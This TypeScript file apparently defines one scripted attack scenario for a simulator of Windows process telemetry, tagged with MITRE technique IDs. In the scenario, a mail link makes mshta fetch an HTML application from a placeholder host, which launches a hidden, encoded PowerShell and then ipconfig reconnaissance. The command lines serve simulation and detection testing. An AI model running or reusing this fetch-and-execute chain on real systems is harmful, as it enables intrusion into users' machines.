import { outlook } from '../programs/applications'
import { mshta } from '../programs/proxies'
import { ipconfig, powershell } from '../programs/windows'
import { type AttackStory, atDesk } from './story'

/** A link in a mail opens an HTML application, which starts an encoded PowerShell. */
export const mailLinkApplication: AttackStory = {
  name: 'mail-link-application',
  technique: 'T1218.005',
  quiet: false,
  days: 1,
  victims: 2,
  suits: atDesk,
  run: (stage) => {
    const { day, campaign } = stage
    const mail = day.spawn(stage.beginMs - 90_000, day.shell, outlook, `"${outlook.path}"`)
    const page = stage.act(
      'T1218.005',
      0,
      mail,
      mshta,
      `"C:\\Windows\\System32\\mshta.exe" http://docs-${campaign.word(6)}.example/share/${campaign.hex(8)}.hta`,
    )
    const encoded = `SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACA${campaign.word(60)}A`
    const shell = stage.act(
      'T1059.001',
      3,
      page,
      powershell,
      `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -NonI -W Hidden -Enc ${encoded}`,
    )
    stage.act('T1016', 30, shell, ipconfig, 'ipconfig /all')
  },
}
